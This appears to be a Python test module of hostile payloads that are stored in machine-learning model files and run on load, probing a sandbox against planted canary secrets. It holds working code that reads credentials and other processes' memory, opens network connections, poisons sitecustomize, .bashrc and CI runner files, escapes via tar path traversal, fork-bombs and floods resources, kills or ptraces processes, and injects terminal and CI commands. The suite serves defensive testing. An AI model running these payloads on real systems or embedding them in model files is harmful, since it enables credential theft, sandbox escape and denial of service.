"""What the hostile models do. Each function is stored as source in a real model and run when that is loaded.

`t` are the targets: canaries that the test has planted, and nothing else on the machine. Each takes what it needs from
`t` alone, so that it fails where a wall stops it and not because it could not find its way. What it finds it prints
after the word LOOT. Each is bounded by itself: in processes, in bytes, in seconds.
"""

# ruff: noqa: ARG001, S104, SIM115, T201 - attacks do what one should not do

from typing import Any

Targets = dict[str, Any]


# --- secrets ------------------------------------------------------------------------------------------------------


def reads_the_environment(t: Targets) -> None:
    import os

    print("LOOT", os.environ.get("GITHUB_TOKEN"), flush=True)


def reads_the_environment_of_its_ancestors(t: Targets) -> None:
    import os

    process = os.getppid()
    for _ in range(4):
        try:
            os.write(1, b"LOOT " + open(f"/proc/{process}/environ", "rb").read() + b"\n")
        except OSError as error:
            print(error)
        try:
            process = int(open(f"/proc/{process}/stat").read().rpartition(")")[2].split()[1])
        except (OSError, ValueError):
            return


def reads_the_environment_of_another_process(t: Targets) -> None:
    import os

    os.write(1, b"LOOT " + open(f"/proc/{t['victims']['environ']}/environ", "rb").read())


def reads_the_command_line_of_another_process(t: Targets) -> None:
    import os

    os.write(1, b"LOOT " + open(f"/proc/{t['victims']['cmdline']}/cmdline", "rb").read())


def reads_the_memory_of_another_process(t: Targets) -> None:
    import os

    process = t["victims"]["memory"]
    for line in open(f"/proc/{process}/maps"):
        if "[stack]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory = os.open(f"/proc/{process}/mem", os.O_RDONLY)
            os.write(1, b"LOOT " + os.pread(memory, end - start, start)[-4096:])


def reads_the_memory_of_another_process_by_a_system_call(t: Targets) -> None:
    import ctypes
    import os
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    start = t["addresses"]["memory"]
    buffer = ctypes.create_string_buffer(4096)
    local = struct.pack("=QQ", ctypes.addressof(buffer), 4096)
    remote = struct.pack("=QQ", start, 4096)
    got = libc.process_vm_readv(t["victims"]["memory"], local, 1, remote, 1, 0)
    if got < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    os.write(1, b"LOOT " + buffer.raw[:got])


def takes_a_descriptor_of_another_process(t: Targets) -> None:
    import os

    os.write(1, b"LOOT " + open(f"/proc/{t['victims']['descriptor']}/fd/{t['descriptor']}", "rb").read())


def takes_a_descriptor_of_another_process_by_a_system_call(t: Targets) -> None:
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, t["victims"]["descriptor"], 0)
    stolen = libc.syscall(438, pidfd, t["descriptor"], 0)
    if stolen < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    os.write(1, b"LOOT " + os.pread(stolen, 4096, 0))


def reads_what_its_parent_left_open(t: Targets) -> None:
    import os

    for name in os.listdir("/proc/self/fd"):
        try:
            os.write(1, b"LOOT " + os.pread(int(name), 4096, 0))
        except OSError:
            continue


def reads_a_credentials_file(t: Targets) -> None:
    print("LOOT", open(t["home"] + "/.netrc").read(), flush=True)


def reads_the_token_of_the_checkout(t: Targets) -> None:
    print("LOOT", open(t["repository"] + "/.git/config").read(), flush=True)


def reads_the_secrets_beside_its_model(t: Targets) -> None:
    print("LOOT", open(t["repository"] + "/models/.env").read(), flush=True)


def reads_the_files_of_the_runner(t: Targets) -> None:
    print("LOOT", open(t["home"] + "/runner/.credentials").read(), flush=True)


def reads_shared_memory(t: Targets) -> None:
    print("LOOT", open(t["shared_memory"]).read(), flush=True)


def reads_by_a_program(t: Targets) -> None:
    import subprocess

    subprocess.run(["cat", t["home"] + "/.netrc"], timeout=20, check=False, env={"PATH": "/usr/bin:/bin"})
    found = subprocess.run(["cat", t["home"] + "/.netrc"], timeout=20, check=False, capture_output=True)
    print("LOOT", found.stdout.decode(), flush=True)


def links_a_secret_into_its_own_directory(t: Targets) -> None:
    import os

    os.link(t["home"] + "/.netrc", "mine")
    print("LOOT", open("mine").read(), flush=True)


def reads_through_a_symbolic_link(t: Targets) -> None:
    import os

    os.symlink(t["home"] + "/.netrc", "mine")
    print("LOOT", open("mine").read(), flush=True)


def reads_through_an_external_link(t: Targets) -> None:
    import os

    import h5py

    with h5py.File("mine.h5", "w") as file:
        file["weights"] = h5py.ExternalLink(t["private"], "/weights")
    with h5py.File("mine.h5", "r") as file:
        os.write(1, b"LOOT " + file["weights"][()].tobytes())


def reads_through_a_virtual_data_set(t: Targets) -> None:
    import os

    import h5py

    layout = h5py.VirtualLayout(shape=(16,), dtype="<f4")
    layout[:] = h5py.VirtualSource(t["private"], "weights", shape=(16,))
    with h5py.File("mine.h5", "w") as file:
        file.create_virtual_dataset("weights", layout)
    with h5py.File("mine.h5", "r") as file:
        os.write(1, b"LOOT " + file["weights"][()].tobytes())


# --- ways out -----------------------------------------------------------------------------------------------------


def connects_by_tcp(t: Targets) -> None:
    import socket

    with socket.create_connection(("127.0.0.1", t["tcp"]), 5) as connection:
        connection.sendall(b"connects_by_tcp")


def connects_by_tcp_over_ipv6(t: Targets) -> None:
    import socket

    with socket.create_connection(("::1", t["tcp6"]), 5) as connection:
        connection.sendall(b"connects_by_tcp_over_ipv6")


def sends_a_datagram(t: Targets) -> None:
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"sends_a_datagram", ("127.0.0.1", t["udp"]))


def asks_a_name_server(t: Targets) -> None:
    import socket

    labels = b"".join(bytes([len(part)]) + part for part in (b"asks_a_name_server", b"example"))
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.connect(("127.0.0.1", t["udp"]))
    server.send(query)


def fetches_a_page(t: Targets) -> None:
    import urllib.request

    urllib.request.urlopen(f"http://127.0.0.1:{t['tcp']}/fetches_a_page", timeout=3)


def connects_from_a_program(t: Targets) -> None:
    import subprocess
    import sys

    code = "import socket; socket.create_connection(('127.0.0.1', %d), 5).sendall(b'connects_from_a_program')"
    subprocess.run([sys.executable, "-I", "-S", "-c", code % t["tcp"]], timeout=30, check=True)


def talks_to_docker(t: Targets) -> None:
    import socket

    connection = socket.socket(socket.AF_UNIX)
    connection.connect(t["docker"])
    connection.sendall(b"GET /talks_to_docker HTTP/1.0\r\n\r\n")


def sends_to_a_local_socket_from_half_a_pair(t: Targets) -> None:
    import socket

    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"sends_to_a_local_socket_from_half_a_pair", t["journal"])


def connects_to_an_abstract_socket(t: Targets) -> None:
    import socket

    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\0" + t["abstract"])
    connection.sendall(b"connects_to_an_abstract_socket")


def listens_for_the_outside(t: Targets) -> None:
    import socket
    import time

    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", t["door"]))
    server.listen()
    server.settimeout(10)
    connection, _ = server.accept()
    print("LOOT", connection.recv(100).decode(), flush=True)
    time.sleep(0.1)


# --- writing ------------------------------------------------------------------------------------------------------


def writes_into_the_home(t: Targets) -> None:
    open(t["home"] + "/.bashrc", "a").write("writes_into_the_home")


def makes_a_file_in_the_home(t: Targets) -> None:
    open(t["home"] + "/makes_a_file_in_the_home", "w").write("x")


def writes_into_the_workspace(t: Targets) -> None:
    open(t["repository"] + "/code.py", "a").write("writes_into_the_workspace")


def writes_over_another_model(t: Targets) -> None:
    open(t["repository"] + "/models/.other.h5", "w").write("writes_over_another_model")


def forges_the_result_of_another(t: Targets) -> None:
    open(t["results"], "a").write('{"case": "forges_the_result_of_another"}\n')


def poisons_the_runtime(t: Targets) -> None:
    open(t["runtime"] + "/sitecustomize.py", "w").write("poisons_the_runtime")


def poisons_bytecode(t: Targets) -> None:
    import os

    os.makedirs(t["runtime"] + "/__pycache__", exist_ok=True)
    open(t["runtime"] + "/__pycache__/poisons_bytecode.pyc", "w").write("x")


def commands_the_runner_by_a_file(t: Targets) -> None:
    open(t["home"] + "/runner/github_env", "a").write("commands_the_runner_by_a_file=1")


def writes_into_shared_memory(t: Targets) -> None:
    open(t["shared_memory"] + ".written", "w").write("writes_into_shared_memory")


def makes_a_file_unreadable(t: Targets) -> None:
    import os

    os.chmod(t["repository"] + "/unreadable", 0)


def gives_a_file_away(t: Targets) -> None:
    import os

    os.utime(t["repository"] + "/aged", (1, 1))


def cuts_a_file(t: Targets) -> None:
    import os

    os.truncate(t["repository"] + "/cut", 0)


def removes_a_file(t: Targets) -> None:
    import os

    os.remove(t["repository"] + "/removed")


def moves_a_file_over_another(t: Targets) -> None:
    import os

    open("mine", "w").write("moves_a_file_over_another")
    try:
        os.rename("mine", t["repository"] + "/replaced")
    except OSError as error:
        if error.errno != 18:  # another file system
            raise
        open(t["repository"] + "/replaced.part", "w").write("moves_a_file_over_another")
        os.rename(t["repository"] + "/replaced.part", t["repository"] + "/replaced")


def unpacks_an_archive_that_climbs(t: Targets) -> None:
    import io
    import tarfile

    with tarfile.open("climbs.tar", "w") as archive:
        member = tarfile.TarInfo("../" * 20 + t["repository"].lstrip("/") + "/climbed")
        member.size = 1
        archive.addfile(member, io.BytesIO(b"x"))
    with tarfile.open("climbs.tar") as archive:
        archive.extractall()  # noqa: S202 - the attack


def leaves_a_link_where_it_is_saved(t: Targets) -> None:
    """Who saves it gets itself once more, and a link beside it that the next load may follow further than the first."""
    import os
    import shutil

    import numpy
    import tensorflow

    mine = t["repository"] + "/models/leaves_a_link_where_it_is_saved.h5"

    def save(_: Any, path: str, **__: Any) -> None:
        shutil.copyfile(mine, path)
        os.symlink(t["home"] + "/.netrc", os.path.join(os.path.dirname(path), "recorded.npz"))
        tensorflow.keras.Model.was_saved = True

    try:
        open(mine).close()
        is_again = hasattr(tensorflow.keras.Model, "was_saved")
    except OSError:
        is_again = True
    if is_again:
        print("LOOT", open(t["home"] + "/.netrc").read(), flush=True)
    tensorflow.keras.Model.save = save
    numpy.savez = lambda *_, **__: None


# --- floods -------------------------------------------------------------------------------------------------------


def fills_memory(t: Targets) -> None:
    import time

    hoard = [b"\xff" * (64 << 20) for _ in range(30)]
    time.sleep(1)
    print("LOOT", t["done"] if len(hoard) == 30 else "", flush=True)


def fills_memory_that_looks_like_a_file(t: Targets) -> None:
    import os
    import time

    hoard = os.memfd_create("hoard")
    for _ in range(192):
        os.write(hoard, b"\xff" * (t["disk"] // 96))
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_memory_by_many_processes(t: Targets) -> None:
    import os
    import time

    full, say_full = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            hoard = [b"\xff" * (32 << 20) for _ in range(12)]
            os.write(say_full, b"x")
            time.sleep(20 if hoard else 0)
            os._exit(0)
    for _ in range(6):
        os.read(full, 1)
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_memory_that_its_descendants_share(t: Targets) -> None:
    import mmap
    import os
    import time

    full, say_full = os.pipe()
    for _ in range(2):
        if os.fork() == 0:
            hoard = [mmap.mmap(-1, 64 << 20) for _ in range(10)]
            for memory in hoard:
                memory.write(b"\xff" * (64 << 20))
            os.write(say_full, b"x")
            time.sleep(20)
            os._exit(0)
    for _ in range(2):
        os.read(full, 1)
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_memory_that_system_v_keeps(t: Targets) -> None:
    import ctypes
    import os
    import time

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    full, say_full = os.pipe()
    if os.fork() == 0:
        for _ in range(20):
            segment = libc.shmget(0, 64 << 20, 0o600)
            address = libc.shmat(segment, None, 0)
            libc.shmctl(segment, 0, None)
            if segment < 0:
                os._exit(1)
            ctypes.memset(ctypes.c_void_p(address), 255, 64 << 20)
        os.write(say_full, b"x")
        time.sleep(20)
        os._exit(0)
    os.close(say_full)
    if not os.read(full, 1):
        raise OSError("there is no such memory to be had")
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_memory_behind_a_page_of_each_file(t: Targets) -> None:
    """Nobody is told how large a file is that is mapped and no longer open."""
    import ctypes
    import os
    import time

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    for _ in range(2 * (t["disk"] >> 24)):
        hoard = os.memfd_create("hoard")
        os.write(hoard, b"\xff" * (16 << 20))
        libc.mmap(None, 4096, 1, 1, hoard, 0)
        os.close(hoard)
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_memory_with_what_waits_in_its_sockets(t: Targets) -> None:
    import resource
    import socket

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    pairs, waiting = [], 0
    while waiting < 1 << 30:
        pairs.append(socket.socketpair())
        for one in pairs[-1]:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
            one.setblocking(False)
            try:
                while True:
                    waiting += one.send(b"\xff" * 65536)
            except BlockingIOError:
                continue
    print("LOOT", t["done"], flush=True)


def fills_the_disk(t: Targets) -> None:
    import time

    for number in range(4):
        open(f"flood-{number}", "wb").write(b"\xff" * (t["disk"] // 2))
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_the_disk_with_one_file(t: Targets) -> None:
    with open("flood", "wb") as flood:
        for _ in range(160):
            flood.write(b"\xff" * (t["disk"] // 96))
            flood.flush()
    print("LOOT", t["done"], flush=True)


def fills_the_disk_with_what_no_folder_shows(t: Targets) -> None:
    import os
    import time

    held = []
    for number in range(4):
        held.append(open(f"flood-{number}", "wb"))
        os.remove(f"flood-{number}")
        held[-1].write(b"\xff" * (t["disk"] // 2))
        held[-1].flush()
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_the_disk_below_a_path_that_is_too_long(t: Targets) -> None:
    import os
    import time

    for _ in range(30):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    for number in range(4):
        open(f"flood-{number}", "wb").write(b"\xff" * (t["disk"] // 2))
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def fills_the_disk_with_files_on_their_way(t: Targets) -> None:
    """A file that waits in a socket to be taken out is in no list of open files."""
    import array
    import os
    import socket
    import time

    one, other = socket.socketpair()
    for number in range(4):
        with open(f"flood-{number}", "wb") as flood:
            os.remove(f"flood-{number}")
            flood.write(b"\xff" * (t["disk"] // 2))
            flood.flush()
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [flood.fileno()]))])
    time.sleep(2)
    print("LOOT", t["done"] if other else "", flush=True)


def fills_the_disk_with_small_files(t: Targets) -> None:
    import time

    for number in range(30000):
        open(f"f{number}", "w").close()
    time.sleep(2)
    print("LOOT", t["done"], flush=True)


def opens_descriptors_without_end(t: Targets) -> None:
    import os
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held = [os.dup(0) for _ in range(10000)]
    print("LOOT", t["done"] if held else "", flush=True)
    os.closerange(held[0], held[-1] + 1)


def forks_without_end(t: Targets) -> None:
    import os
    import time

    for _ in range(120):
        if os.fork() == 0:
            time.sleep(12)
            os._exit(0)
    time.sleep(4)
    print("LOOT", t["done"], flush=True)


def starts_threads_without_end(t: Targets) -> None:
    import threading
    import time

    threading.stack_size(65536)
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(8,), daemon=True).start()
    time.sleep(4)
    print("LOOT", t["done"], flush=True)


def floods_its_output(t: Targets) -> None:
    import os

    line = b"x" * 65535 + b"\n"
    for _ in range(1600):
        os.write(1, line)


# --- relatives ----------------------------------------------------------------------------------------------------


def kills_another_process(t: Targets) -> None:
    import os

    os.kill(t["victims"]["killed"], 9)


def stops_another_process(t: Targets) -> None:
    import os

    os.kill(t["victims"]["stopped"], 19)


def kills_by_a_descriptor(t: Targets) -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(424, libc.syscall(434, t["victims"]["killed_by_descriptor"], 0), 9, None, 0) < 0:
        raise OSError(ctypes.get_errno(), "pidfd_send_signal")


def signals_another_process_by_a_pipe(t: Targets) -> None:
    """The kernel signals whoever owns a descriptor when it can be read."""
    import fcntl
    import os

    read_end, write_end = os.pipe()
    fcntl.fcntl(read_end, 8, t["victims"]["signalled"])
    fcntl.fcntl(read_end, 10, 9)
    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write_end, b"x")


def traces_another_process(t: Targets) -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, t["victims"]["traced"], 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    print("LOOT", t["done"], flush=True)


def takes_the_files_of_another_process_away(t: Targets) -> None:
    import resource

    resource.prlimit(t["victims"]["limited"], resource.RLIMIT_NOFILE, (0, 0))


def takes_the_processor_from_another_process(t: Targets) -> None:
    import os

    os.sched_setscheduler(t["victims"]["idle"], os.SCHED_IDLE, os.sched_param(0))


def takes_priority_from_another_process(t: Targets) -> None:
    import os

    os.setpriority(os.PRIO_PROCESS, t["victims"]["last"], 19)


def puts_words_into_another_process(t: Targets) -> None:
    import os

    line = b'{"case": "puts_words_into_another_process"}\n'
    os.write(os.open(f"/proc/{t['victims']['forged']}/fd/{t['pipe']}", os.O_WRONLY), line)


def attaches_shared_memory(t: Targets) -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(t["segment"], None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    print("LOOT", ctypes.string_at(address).decode(), flush=True)


def outlives_its_case(t: Targets) -> None:
    import ctypes
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 4096)
            ctypes.CDLL(None).prctl(15, b"lg-outlives", 0, 0, 0)
            ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
            time.sleep(300)
        os._exit(0)
    time.sleep(0.5)


def outlives_by_changing_its_number(t: Targets) -> None:
    import ctypes
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 4096)
        ctypes.CDLL(None).prctl(15, b"lg-comet", 0, 0, 0)
        until = time.monotonic() + 300
        while time.monotonic() < until:
            if os.fork():
                os._exit(0)
            time.sleep(0.02)
        os._exit(0)
    time.sleep(0.5)


# --- what is printed and raised -----------------------------------------------------------------------------------


def prints_commands_for_the_runner(t: Targets) -> None:
    print(
        "::set-output name=hostile::1\n::add-mask::e\n::stop-commands::hostile\n::error file=a.py::hostile", flush=True
    )


def prints_terminal_escapes(t: Targets) -> None:
    print("\x1b[2J\x1b[31m\x1b]0;hostile\x07\x9b31m\x1b]8;;http://hostile.example\x1b\\here\x1b]8;;\x1b\\", flush=True)


def prints_what_others_left(t: Targets) -> None:
    """Not an attack: what the repository's own Python found, in the process that this one was forked from."""
    import os

    print(os.environ.get("FOUND", "nothing"), flush=True)


LAMBDAS = [value for value in list(globals().values()) if getattr(value, "__module__", None) == __name__]
